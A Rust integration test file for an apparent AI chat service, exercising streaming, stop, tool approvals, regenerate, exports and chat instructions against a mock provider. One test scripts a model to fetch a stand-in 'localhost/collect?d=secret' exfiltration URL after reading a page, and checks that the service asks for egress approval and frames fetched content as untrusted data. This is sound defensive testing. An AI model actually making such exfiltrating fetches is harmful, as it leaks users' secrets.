//! The service end to end against the mock provider: background turns, stop, approvals,
//! regenerate, per-chat tool state.

use std::sync::Arc;
use std::time::Duration;
use switchboard_core::turn::{ApprovalDecision, FixedApprover};
use switchboard_core::{ChatEvent, EventSink};
use switchboard_mock_provider::{MockServer, Reply, Script, Step, StreamOptions};
use switchboard_secrets::MemoryStore;
use switchboard_service::Service;
use switchboard_service::ipc::{ApprovalChoice, SendRequest, TurnChoices};
use switchboard_store::{MessageStatus, ProviderProfile, Store};
use tokio::sync::mpsc;

struct ChannelSink(mpsc::UnboundedSender<ChatEvent>);

impl EventSink for ChannelSink {
    fn emit(&self, event: ChatEvent) {
        let _ = self.0.send(event);
    }
}

async fn setup(script: Script) -> (Service, MockServer) {
    setup_on(Store::open_in_memory().unwrap(), script).await
}

/// As [`setup`], on `store` (one in a folder gives the service a config directory: toolsets).
async fn setup_on(store: Store, script: Script) -> (Service, MockServer) {
    let mock = MockServer::start(script).await;
    let service = Service::new(store, Arc::new(MemoryStore::new())).unwrap();
    let profile = ProviderProfile {
        name: "mock".into(),
        kind: "openai".into(),
        base_url: mock.base_url(),
        model: Some("m".into()),
        options: Default::default(),
    };
    service.add_provider(&profile, true).unwrap();
    (service, mock)
}

fn channel_sink() -> (Arc<dyn EventSink>, mpsc::UnboundedReceiver<ChatEvent>) {
    let (tx, rx) = mpsc::unbounded_channel();
    (Arc::new(ChannelSink(tx)), rx)
}

async fn until_done(rx: &mut mpsc::UnboundedReceiver<ChatEvent>) -> Vec<ChatEvent> {
    let mut events = Vec::new();
    while let Some(e) = tokio::time::timeout(Duration::from_secs(10), rx.recv()).await.expect("turn stalled") {
        let done = matches!(e, ChatEvent::Done { .. });
        events.push(e);
        if done {
            break;
        }
    }
    events
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_background_turn_streams_and_is_stored() {
    let (service, _mock) = setup(Script::new([Reply::text("Hello there")])).await;
    let (sink, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, "hi"), sink).unwrap();
    let events = until_done(&mut rx).await;
    assert!(matches!(&events[0], ChatEvent::Started { message_id, .. } if *message_id == started.message_id));
    let view = service.open(&started.conversation_id).unwrap();
    assert_eq!(view.messages[1].content, "Hello there");
    assert_eq!(view.messages[1].status, MessageStatus::Complete);
    assert!(service.running().is_empty(), "a finished turn is no longer running");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stop_ends_a_turn_and_keeps_the_partial_answer() {
    let (service, _mock) = setup(Script::new([Reply::stream([Step::text("Partial answer"), Step::Stall])])).await;
    let (sink, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, "hi"), sink).unwrap();
    // Wait for the text to arrive, then stop.
    loop {
        match rx.recv().await.unwrap() {
            ChatEvent::TextDelta { .. } => break,
            _ => continue,
        }
    }
    assert!(service.stop(&started.message_id));
    let events = until_done(&mut rx).await;
    assert!(matches!(
        events.last(),
        Some(ChatEvent::Done { finish_reason: switchboard_core::FinishReason::Cancelled, .. })
    ));
    let view = service.open(&started.conversation_id).unwrap();
    assert_eq!(view.messages[1].content, "Partial answer");
    assert_eq!(view.messages[1].status, MessageStatus::Cancelled);
    // The turn leaves the running set right after its last event.
    for _ in 0..100 {
        if service.running().is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert!(!service.stop(&started.message_id), "nothing left to stop");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approvals_wait_for_the_person_and_for_this_chat_is_remembered() {
    let (service, mock) = setup(Script::new([
        Reply::tool_call("c1", "get_time", "{}"),
        Reply::text("It is now."),
        Reply::tool_call("c2", "get_time", "{}"),
        Reply::text("Still now."),
    ]))
    .await;
    let mut settings = service.settings().unwrap();
    settings.tools.approval.insert("get_time".into(), switchboard_core::ApprovalPolicy::Ask);
    service.update_settings(&settings).unwrap();

    let (sink, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, "time?"), sink).unwrap();
    loop {
        if let ChatEvent::ApprovalRequested { id, arguments, .. } = rx.recv().await.unwrap() {
            assert_eq!(arguments, "{}");
            service.resolve_approval(&id, ApprovalChoice::Chat).unwrap();
            break;
        }
    }
    let events = until_done(&mut rx).await;
    assert!(events.iter().any(|e| matches!(e, ChatEvent::ToolResult { status: switchboard_core::ToolStatus::Ok, .. })));
    assert_eq!(mock.requests().len(), 2);

    // Same chat: no question this time.
    let (sink, mut rx) = channel_sink();
    service.send(SendRequest::text(Some(started.conversation_id.clone()), "again"), sink).unwrap();
    let events = until_done(&mut rx).await;
    assert!(!events.iter().any(|e| matches!(e, ChatEvent::ApprovalRequested { .. })));
    assert!(service.resolve_approval("nope", ApprovalChoice::Once).is_err());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn regenerate_replaces_the_last_answer() {
    let (service, mock) = setup(Script::new([Reply::text("first try"), Reply::text("second try")])).await;
    let (sink1, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, "question"), sink1).unwrap();
    until_done(&mut rx).await;
    let (sink2, mut rx) = channel_sink();
    service.regenerate(&started.conversation_id, None, None, sink2).unwrap();
    until_done(&mut rx).await;
    let view = service.open(&started.conversation_id).unwrap();
    let texts: Vec<&str> = view.messages.iter().map(|m| m.content.as_str()).collect();
    assert_eq!(texts, ["question", "second try"]);
    assert_eq!(mock.requests()[1].messages().len(), 1, "the old answer is not in the new request");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tools_disabled_for_a_new_chat_apply_to_its_first_turn() {
    let (service, mock) = setup(Script::new([Reply::text("ok")])).await;
    let mut request = SendRequest::text(None, "hi");
    request.disable_for_chat = vec!["get_time".into()];
    let (sink, mut rx) = channel_sink();
    let started = service.send(request, sink).unwrap();
    until_done(&mut rx).await;
    assert!(!mock.requests()[0].tool_names().contains(&"get_time".to_string()));
    assert!(!mock.requests()[0].tool_names().is_empty(), "the other tools are still offered");
    let tools = service.tools(Some(&started.conversation_id)).unwrap();
    assert!(tools.iter().find(|t| t.name == "get_time").unwrap().disabled_for_chat);
    service.set_chat_tool_disabled(&started.conversation_id, "get_time", false).unwrap();
    assert!(!service.tools(Some(&started.conversation_id)).unwrap()[0].disabled_for_chat);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_call_to_a_tool_switched_off_in_the_chat_says_so_to_the_model_and_the_card() {
    let (service, mock) = setup(Script::new([
        Reply::text("first"),
        Reply::tool_call("c1", "get_time", "{}"),
        Reply::text("Answered without it."),
    ]))
    .await;
    let (sink, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, "hi"), sink).unwrap();
    until_done(&mut rx).await;
    let id = started.conversation_id.clone();
    service.set_chat_tools_disabled(&id, &["get_time".into(), "web_fetch".into()], true).unwrap();
    let off: Vec<String> =
        service.tools(Some(&id)).unwrap().into_iter().filter(|t| t.disabled_for_chat).map(|t| t.name).collect();
    assert_eq!(off, ["get_time", "web_fetch"], "both switched off in one step");

    let (sink, mut rx) = channel_sink();
    service.send(SendRequest::text(Some(id.clone()), "what time is it?"), sink).unwrap();
    let events = until_done(&mut rx).await;
    let said = "get_time is switched off in this chat. Answer without it, or ask the user to switch it back on.";
    assert!(
        events.iter().any(|e| matches!(e, ChatEvent::ToolResult { status: switchboard_core::ToolStatus::Skipped, output, .. } if output == said)),
        "{events:?}"
    );
    assert!(format!("{:?}", mock.requests()[2].messages()).contains(said), "the model reads the same words");

    service.set_chat_tools_disabled(&id, &["get_time".into(), "web_fetch".into()], false).unwrap();
    assert!(service.tools(Some(&id)).unwrap().iter().all(|t| !t.disabled_for_chat), "switched back on together");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_requests_fail_before_any_row_is_written() {
    let (service, _mock) = setup(Script::default()).await;
    let (sink, _rx) = channel_sink();
    let e = service
        .send(SendRequest { provider: Some("nope".into()), ..SendRequest::text(None, "hi") }, sink.clone())
        .unwrap_err();
    assert_eq!(e.kind, switchboard_core::ErrorKind::Config);
    assert!(e.message.contains("Unknown provider 'nope'"));
    let e = service.send(SendRequest::text(None, "   "), sink).unwrap_err();
    assert!(e.message.contains("empty"));
    assert!(service.conversations().unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slow_stream_can_be_stopped_mid_tool_free_answer() {
    let (service, _mock) =
        setup(Script::new([Reply::stream([Step::text("a b c d e f g h"), Step::finish("stop"), Step::Done])
            .with_options(StreamOptions {
                text_chunk_chars: Some(2),
                chunk_delay_ms: Some(200),
                ..Default::default()
            })]))
        .await;
    let (sink, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, "slow"), sink).unwrap();
    tokio::time::sleep(Duration::from_millis(450)).await;
    service.stop(&started.message_id);
    until_done(&mut rx).await;
    let view = service.open(&started.conversation_id).unwrap();
    let kept = &view.messages[1].content;
    assert!(!kept.is_empty() && kept.len() < "a b c d e f g h".len(), "kept {kept:?}");
}

/// What a request asked of the model: its model, the tools offered and the tool choice.
fn asked(r: &switchboard_mock_provider::RecordedRequest) -> (String, Vec<String>, serde_json::Value) {
    let model = r.body["model"].as_str().unwrap_or_default().to_owned();
    (model, r.tool_names(), r.body.get("tool_choice").cloned().unwrap_or(serde_json::Value::Null))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn regenerate_runs_with_the_choices_of_the_turn_it_replaces() {
    let (service, mock) = setup(Script::new([Reply::text("first"), Reply::text("second")])).await;
    let request = SendRequest { model: Some("picked".into()), use_tools: false, ..SendRequest::text(None, "q") };
    let (sink, mut rx) = channel_sink();
    let started = service.send(request, sink).unwrap();
    until_done(&mut rx).await;
    // The default changes meanwhile; the retry must not follow it.
    let mut settings = service.settings().unwrap();
    settings.default_provider = None;
    service.update_settings(&settings).unwrap();

    let (sink, mut rx) = channel_sink();
    service.regenerate(&started.conversation_id, None, None, sink).unwrap();
    until_done(&mut rx).await;
    let requests = mock.requests();
    assert_eq!(asked(&requests[0]), ("picked".into(), vec![], serde_json::Value::Null));
    assert_eq!(asked(&requests[1]), asked(&requests[0]), "the retry asks exactly what the first try asked");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn regenerate_keeps_a_forced_tool_and_takes_new_choices_when_given() {
    let (service, mock) = setup(Script::new([
        Reply::tool_call("c1", "get_time", "{}"),
        Reply::text("first"),
        Reply::tool_call("c2", "get_time", "{}"),
        Reply::text("second"),
        Reply::text("third"),
    ]))
    .await;
    let request = SendRequest { forced: vec!["get_time".into()], ..SendRequest::text(None, "time?") };
    let (sink, mut rx) = channel_sink();
    let started = service.send(request, sink).unwrap();
    until_done(&mut rx).await;
    let (sink, mut rx) = channel_sink();
    service.regenerate(&started.conversation_id, None, None, sink).unwrap();
    until_done(&mut rx).await;
    let forced = serde_json::json!({"type": "function", "function": {"name": "get_time"}});
    let requests = mock.requests();
    assert_eq!(asked(&requests[0]).2, forced);
    assert_eq!(asked(&requests[2]), asked(&requests[0]), "the retry forces the same tool");

    // Choices the person picks for the retry replace the stored ones.
    let (sink, mut rx) = channel_sink();
    let picked = TurnChoices { use_tools: false, ..TurnChoices::default() };
    service.regenerate(&started.conversation_id, None, Some(picked), sink).unwrap();
    until_done(&mut rx).await;
    assert_eq!(asked(&mock.requests()[4]), ("m".into(), vec![], serde_json::Value::Null));
    let texts: Vec<String> =
        service.open(&started.conversation_id).unwrap().messages.into_iter().map(|m| m.content).collect();
    assert_eq!(texts, ["time?", "third"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_regenerate_that_cannot_run_leaves_the_conversation_as_it_was() {
    let (service, _mock) = setup(Script::new([Reply::text("kept")])).await;
    let (sink, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, "q"), sink).unwrap();
    until_done(&mut rx).await;
    service.remove_provider("mock").unwrap();
    let (sink, _rx) = channel_sink();
    let e = service.regenerate(&started.conversation_id, None, None, sink).unwrap_err();
    assert!(e.message.contains("Unknown provider 'mock'"), "{}", e.message);
    let texts: Vec<String> =
        service.open(&started.conversation_id).unwrap().messages.into_iter().map(|m| m.content).collect();
    assert_eq!(texts, ["q", "kept"]);
}

/// A shell's own approver (the CLI's terminal prompt) answering "for this chat" or "always":
/// the service remembers it, as it does for the desktop's dialog.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approvals_for_the_chat_or_always_are_remembered_whichever_shell_answers() {
    let (service, _mock) = setup(Script::new([
        Reply::tool_call("c1", "get_time", "{}"),
        Reply::text("done"),
        Reply::tool_call("c2", "get_time", "{}"),
        Reply::text("done"),
    ]))
    .await;
    let mut settings = service.settings().unwrap();
    settings.tools.approval.insert("get_time".into(), switchboard_core::ApprovalPolicy::Ask);
    service.update_settings(&settings).unwrap();
    let (sink, _rx) = channel_sink();

    let turn = service.prepare(SendRequest::text(None, "time?")).unwrap();
    let conversation = turn.started.conversation_id.clone();
    service.run(turn, sink.clone(), Arc::new(FixedApprover(ApprovalDecision::ForChat))).await;
    let tools = service.tools(Some(&conversation)).unwrap();
    assert_eq!(tools.iter().find(|t| t.name == "get_time").unwrap().approval, switchboard_core::ApprovalPolicy::Ask);
    // The next turn in the same chat does not ask: an approver that would deny is never asked.
    let turn = service.prepare(SendRequest::text(Some(conversation.clone()), "again")).unwrap();
    let report = service.run(turn, sink.clone(), Arc::new(FixedApprover(ApprovalDecision::Deny))).await;
    assert_eq!(report.outcome.tool_calls_made, 1);
    let stored = service.open(&conversation).unwrap();
    assert_eq!(stored.messages[3].tool_calls[0].result.as_ref().unwrap().status, switchboard_core::ToolStatus::Ok);

    let (service, _mock) = setup(Script::new([Reply::tool_call("c1", "get_time", "{}"), Reply::text("done")])).await;
    service.update_settings(&settings).unwrap();
    let turn = service.prepare(SendRequest::text(None, "time?")).unwrap();
    service.run(turn, sink, Arc::new(FixedApprover(ApprovalDecision::Always))).await;
    assert_eq!(service.settings().unwrap().tools.approval["get_time"], switchboard_core::ApprovalPolicy::Auto);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_conversation_exports_as_markdown_with_calls_in_place_and_as_json_where_asked() {
    let mock = MockServer::start(Script::new([
        Reply::text_then_tool_calls("Checking 東京 ⏰ ", &[("c1", "get_time", r#"{"timezone":"Asia/Tokyo"}"#)]),
        Reply::text("It is late."),
    ]))
    .await;
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join(switchboard_store::DB_FILE)).unwrap();
    let service = Service::new(store, Arc::new(MemoryStore::new())).unwrap();
    let profile = ProviderProfile {
        name: "mock".into(),
        kind: "openai".into(),
        base_url: mock.base_url(),
        model: Some("m".into()),
        options: Default::default(),
    };
    service.add_provider(&profile, true).unwrap();
    let (sink, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, "What time is it in Tokyo?"), sink).unwrap();
    until_done(&mut rx).await;
    let id = started.conversation_id;

    use switchboard_service::export::ExportFormat;
    let md = service.export_conversation(&id, ExportFormat::Markdown).unwrap();
    let before = md.find("Checking 東京 ⏰").unwrap();
    let call = md.find("<details><summary>Tool call: <code>get_time</code>").unwrap();
    let after = md.find("It is late.").unwrap();
    assert!(before < call && call < after, "the call sits where it happened:\n{md}");
    assert!(md.starts_with("# What time is it in Tokyo?") && md.contains("## Assistant (mock · m)"), "{md}");

    let name = service.export_file_name(&id, ExportFormat::Json).unwrap();
    assert_eq!(name, "what-time-is-it-in-tokyo.json");
    let path =
        service.export_conversation_to(&id, ExportFormat::Json, &service.exports_dir().unwrap().join(name)).unwrap();
    assert!(path.starts_with(&dir.path().join("exports").display().to_string()) && path.ends_with(".json"), "{path}");
    let doc: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(doc["conversations"][0]["id"], id.as_str());
    assert_eq!(doc["conversations"][0]["messages"][1]["toolCalls"][0]["name"], "get_time");

    service.set_pinned(&id, true).unwrap();
    assert!(service.conversations().unwrap()[0].pinned);
    service.set_archived(&id, true).unwrap();
    let c = &service.conversations().unwrap()[0];
    assert!(c.archived && !c.pinned);
}

/// The system message of a recorded Chat Completions request, if it has one.
fn system_of(r: &switchboard_mock_provider::RecordedRequest) -> Option<String> {
    r.messages().iter().find(|m| m["role"] == "system").and_then(|m| m["content"].as_str()).map(str::to_owned)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn custom_and_chat_instructions_reach_every_turn_and_are_kept_with_the_chat() {
    let (service, mock) = setup(Script::new([
        Reply::text("Bonjour."),
        Reply::text("Encore."),
        Reply::text("Again."),
        Reply::text("Re."),
    ]))
    .await;
    let mut settings = service.settings().unwrap();
    settings.chats.instructions = "Call me Sam.".into();
    service.update_settings(&settings).unwrap();

    // A new chat started with a system prompt keeps it as its own instructions.
    let request = SendRequest { system_prompt: Some("Answer in French.".into()), ..SendRequest::text(None, "hi") };
    let (sink, mut rx) = channel_sink();
    let started = service.send(request, sink).unwrap();
    until_done(&mut rx).await;
    let id = started.conversation_id;
    assert_eq!(system_of(&mock.requests()[0]).as_deref(), Some("Call me Sam.\n\nAnswer in French."));

    // The next turn (no system prompt given) runs with both; what was sent is on record.
    let (sink, mut rx) = channel_sink();
    service.send(SendRequest::text(Some(id.clone()), "again"), sink).unwrap();
    until_done(&mut rx).await;
    assert_eq!(system_of(&mock.requests()[1]).as_deref(), Some("Call me Sam.\n\nAnswer in French."));
    let shown = service.chat_instructions(&id).unwrap();
    assert_eq!((shown.custom.as_str(), shown.chat.as_str()), ("Call me Sam.", "Answer in French."));
    assert_eq!(shown.last_sent.as_deref(), Some("Call me Sam.\n\nAnswer in French."));

    // Edited from the chat: the next question uses the new ones; a regenerate composes them again
    // (never twice).
    service.set_chat_instructions(&id, "Answer in English.").unwrap();
    let (sink, mut rx) = channel_sink();
    service.send(SendRequest::text(Some(id.clone()), "and now?"), sink).unwrap();
    until_done(&mut rx).await;
    assert_eq!(system_of(&mock.requests()[2]).as_deref(), Some("Call me Sam.\n\nAnswer in English."));
    let (sink, mut rx) = channel_sink();
    service.regenerate(&id, None, None, sink).unwrap();
    until_done(&mut rx).await;
    assert_eq!(system_of(&mock.requests()[3]).as_deref(), Some("Call me Sam.\n\nAnswer in English."));

    // Too long is refused with the limit, and nothing changes.
    let long = "x".repeat(switchboard_service::settings::MAX_INSTRUCTIONS_CHARS + 1);
    let e = service.set_chat_instructions(&id, &long).unwrap_err();
    assert!(e.message.contains("at most 20000"), "{}", e.message);
    assert_eq!(service.chat_instructions(&id).unwrap().chat, "Answer in English.");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_a_page_was_read_a_fetch_to_a_new_host_asks_and_the_host_allowed_stays_allowed_in_the_chat() {
    let dir = tempfile::tempdir().unwrap();
    let (service, mock) = setup_on(Store::open(&dir.path().join("switchboard.db")).unwrap(), Script::default()).await;
    let settings = service.settings().unwrap();
    let mut local = settings.clone();
    local.web.allow_local_addresses = true;
    service.update_settings_confirmed(&local, &switchboard_service::AlreadyConfirmed).unwrap();
    // The page is on the host the person named (127.0.0.1); the model then fetches from another
    // (localhost) with what it read.
    let page = format!("{}/page", mock.base_url());
    let port = page.split(':').nth(2).and_then(|p| p.split('/').next()).unwrap().to_owned();
    let exfil = format!("http://localhost:{port}/collect?d=secret");
    let fetch = |url: &str| serde_json::json!({ "url": url }).to_string();
    for reply in [
        Reply::tool_call("c1", "web_fetch", fetch(&page)),
        Reply::tool_call("c2", "web_fetch", fetch(&exfil)),
        Reply::text("Done."),
        Reply::tool_call("c3", "web_fetch", fetch(&exfil)),
        Reply::text("Done again."),
    ] {
        mock.push(reply);
    }

    let (sink, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, format!("Read {page}")), sink).unwrap();
    let mut asked = Vec::new();
    loop {
        let e = tokio::time::timeout(Duration::from_secs(10), rx.recv()).await.expect("turn stalled").unwrap();
        if let ChatEvent::ApprovalRequested { id, egress, .. } = &e {
            asked.push(egress.clone().expect("asked for the egress"));
            // "Always" from the page: no dialog can confirm it here, and none is needed: it allows
            // the destination for this chat, not the tool for good.
            service.resolve_approval(id, ApprovalChoice::Always).unwrap();
        }
        if matches!(e, ChatEvent::Done { .. }) {
            break;
        }
    }
    assert_eq!(asked.len(), 1, "only the fetch to the new host: {asked:?}");
    assert_eq!((asked[0].destination.as_str(), asked[0].after.as_str()), ("localhost", "web_fetch"));
    let settings = service.settings().unwrap();
    assert!(!settings.tools.approval.contains_key("web_fetch"), "no tool policy was loosened");

    // The next turn: the page is still in the context, and localhost is allowed in this chat.
    let (sink, mut rx) = channel_sink();
    service.send(SendRequest::text(Some(started.conversation_id.clone()), "again"), sink).unwrap();
    let events = until_done(&mut rx).await;
    assert!(!events.iter().any(|e| matches!(e, ChatEvent::ApprovalRequested { .. })), "{events:#?}");
    let sent = mock.requests().last().unwrap().body.clone();
    let framed = sent["messages"].as_array().unwrap().iter().find(|m| m["role"] == "tool").unwrap();
    assert!(framed["content"].as_str().unwrap().starts_with("[Untrusted data returned by web_fetch."), "{framed}");

    // A turn whose toolset leaves web_fetch out still sends the page it read earlier as untrusted.
    service
        .put_toolset(switchboard_service::agents::Toolset {
            name: "clock".into(),
            description: String::new(),
            tools: vec!["get_time".into()],
        })
        .unwrap();
    mock.push(Reply::text("Noted."));
    let (sink, mut rx) = channel_sink();
    let request = SendRequest {
        toolsets: Some(vec!["clock".into()]),
        ..SendRequest::text(Some(started.conversation_id.clone()), "and now?")
    };
    service.send(request, sink).unwrap();
    until_done(&mut rx).await;
    let sent = mock.requests().last().unwrap().body.clone();
    assert_eq!(sent["tools"].as_array().map(Vec::len), Some(1), "only get_time is offered: {sent}");
    let framed = sent["messages"].as_array().unwrap().iter().find(|m| m["role"] == "tool").unwrap();
    assert!(framed["content"].as_str().unwrap().starts_with("[Untrusted data returned by web_fetch."), "{framed}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn versions_switch_delete_branch_and_copy_as_markdown_through_the_service() {
    let store = Store::open_in_memory().unwrap();
    let (service, mock) = setup_on(
        store.clone(),
        Script::new([
            Reply::tool_call("c1", "get_time", "{}"),
            Reply::text("first"),
            Reply::text("second"),
            Reply::text("edited"),
        ]),
    )
    .await;
    let (sink, mut rx) = channel_sink();
    let started = service.send(SendRequest::text(None, "time?"), sink).unwrap();
    until_done(&mut rx).await;
    let c = started.conversation_id.clone();

    // Ask again by the answer's id: a second version, shown; the first is kept.
    let (sink, mut rx) = channel_sink();
    let again = service.regenerate(&c, Some(&started.message_id), None, sink).unwrap();
    until_done(&mut rx).await;
    assert_eq!(again.user_message_id, started.user_message_id, "the same question is answered again");
    let view = service.open(&c).unwrap();
    assert_eq!(view.messages[1].content, "second");
    assert_eq!(view.messages[1].versions, [started.message_id.clone(), again.message_id.clone()]);

    // Switch back: the first answer with its tool call; then delete it: the second is shown.
    let view = service.switch_version(&c, &started.message_id).unwrap();
    assert_eq!(view.messages[1].content, "first");
    assert_eq!(view.messages[1].tool_calls.len(), 1);
    let markdown = service.message_markdown(&c, &started.message_id).unwrap();
    assert!(
        markdown.starts_with("## Assistant") && markdown.contains("Tool call: <code>get_time</code>"),
        "{markdown}"
    );
    let view = service.delete_version(&c, &started.message_id).unwrap();
    assert_eq!(view.messages.iter().map(|m| m.content.as_str()).collect::<Vec<_>>(), ["time?", "second"]);

    // Edit the question: a new branch, sent without the other one.
    let (sink, mut rx) = channel_sink();
    let edited = service.edit_message(&c, &started.user_message_id, "what day?", None, sink).unwrap();
    until_done(&mut rx).await;
    let body = mock.requests()[3].body.to_string();
    assert!(body.contains("what day?") && !body.contains("time?") && !body.contains("second"), "{body}");
    let copy = service.branch_conversation(&c, &edited.message_id).unwrap();
    let copied = service.open(&copy).unwrap();
    assert_eq!(copied.conversation.title, "time? (branch)");
    assert_eq!(copied.messages.iter().map(|m| m.content.as_str()).collect::<Vec<_>>(), ["what day?", "edited"]);

    // While an answer streams, editing, asking again and deleting it are refused and change nothing.
    let streaming = store.begin_turn(Some(&c), "later", "mock", "m").unwrap();
    let before = service.open(&c).unwrap();
    let busy = service.edit_message(&c, &edited.user_message_id, "x", None, channel_sink().0);
    assert!(busy.as_ref().is_err_and(|e| e.message.contains("stop it first")), "{busy:?}");
    assert!(service.regenerate(&c, None, None, channel_sink().0).is_err());
    assert!(service.delete_version(&c, &streaming.message_id).is_err_and(|e| e.message.contains("stop it first")));
    assert_eq!(service.open(&c).unwrap(), before);
    assert_eq!(mock.requests().len(), 4);
}

/// A turn that cannot be built after its rows are written (here the chat's approvals cannot be
/// read) leaves no answer streaming: the answer ends as an error with the failure's message, the
/// question is kept, and the chat is not held busy — once the cause is gone, asking again works.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_turn_that_fails_after_its_rows_are_written_leaves_an_error_not_a_streaming_answer() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("switchboard.db");
    let store = Store::open(&path).unwrap();
    let (service, _mock) = setup_on(store.clone(), Script::new([Reply::text("first"), Reply::text("again")])).await;
    let (sink, mut rx) = channel_sink();
    let c = service.send(SendRequest::text(None, "q1"), sink).unwrap().conversation_id;
    until_done(&mut rx).await;
    let db = rusqlite::Connection::open(&path).unwrap();
    let set_approvals = |json: &str| {
        let changed = db.execute("UPDATE conversations SET approved_tools = ?2 WHERE id = ?1", (&c, json)).unwrap();
        assert_eq!(changed, 1);
    };
    set_approvals("not a list");

    let e = service.send(SendRequest::text(Some(c.clone()), "q2"), channel_sink().0).unwrap_err();
    let messages = store.messages(&c).unwrap();
    let shown: Vec<(&str, MessageStatus)> = messages.iter().map(|m| (m.content.as_str(), m.status)).collect();
    assert_eq!(
        shown,
        [
            ("q1", MessageStatus::Complete),
            ("first", MessageStatus::Complete),
            ("q2", MessageStatus::Complete),
            ("", MessageStatus::Error)
        ],
        "the question is kept, its answer is an error, nothing streams"
    );
    let failed = messages.last().unwrap().clone();
    assert_eq!(failed.error.as_ref().map(|x| x.message.as_str()), Some(e.message.as_str()));
    assert!(service.running().is_empty());

    // Asking again is not refused as busy: it fails for the same reason, and leaves no stream.
    let again = service.regenerate(&c, Some(&failed.id), None, channel_sink().0).unwrap_err();
    assert!(!again.message.contains("stop it first"), "{}", again.message);
    store.ensure_idle(&c).unwrap();
    // Once the cause is repaired, asking again answers.
    set_approvals("[]");
    let (sink, mut rx) = channel_sink();
    service.regenerate(&c, Some(&failed.id), None, sink).unwrap();
    until_done(&mut rx).await;
    let view = service.open(&c).unwrap();
    let answer = view.messages.last().unwrap();
    assert_eq!((answer.content.as_str(), answer.status), ("again", MessageStatus::Complete));
    assert_eq!(answer.versions.len(), 3, "the failed answers stay as versions: {answer:?}");
}
